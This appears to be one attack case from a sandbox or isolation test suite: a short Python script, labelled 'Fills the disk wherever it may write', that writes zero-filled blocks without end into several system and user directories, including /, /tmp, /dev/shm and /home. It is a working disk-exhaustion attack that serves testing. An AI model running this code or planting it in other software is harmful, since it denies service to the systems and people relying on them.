# /// attack
# story = "Fills the disk wherever it may write."
# same = true
# ///
import os
import tempfile

for place in (".", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home"):
    try:
        with open(os.path.join(place, "flood"), "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
try:
    tempfile.NamedTemporaryFile(delete=False)
except OSError:
    pass
